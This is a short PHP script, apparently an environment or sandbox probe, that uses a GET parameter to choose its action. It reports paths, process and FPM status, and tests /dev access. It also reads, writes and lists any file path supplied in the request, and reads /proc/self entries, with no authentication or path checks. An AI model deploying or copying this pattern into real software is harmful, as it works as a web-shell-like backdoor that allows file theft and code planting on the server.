<?php
header('Content-Type: text/plain');
$t = $_GET['t'] ?? '';
$r = null;
switch ($t) {
case 'where': $r = [__FILE__, $_SERVER['SCRIPT_FILENAME'], getcwd(), date('c'), date_default_timezone_get()]; break;
case 'read': $r = @file_get_contents($_GET['path']); break;
case 'write': $r = @file_put_contents($_GET['path'], $_GET['data'] ?? 'x'); break;
case 'ls': $r = @scandir($_GET['path']); break;
case 'kill': $r = [@posix_kill((int)$_GET['pid'], 0), posix_get_last_error()]; break;
case 'loadavg': $r = sys_getloadavg(); break;
case 'pid': $r = getmypid(); break;
case 'proc': $r = @file_get_contents('/proc/self/' . $_GET['f']); break;
case 'dev': $r = [strlen(file_get_contents('/dev/urandom', false, null, 0, 16)), file_put_contents('/dev/null', 'x'), strlen(file_get_contents('/dev/zero', false, null, 0, 4))]; break;
case 'sapi': $s = function_exists('fpm_get_status') ? fpm_get_status() : 'missing'; $r = [is_array($s) ? $s['pool'] : $s, is_array($s) ? count($s['procs']) : 0, function_exists('fastcgi_finish_request')]; break;
}
echo json_encode($r);
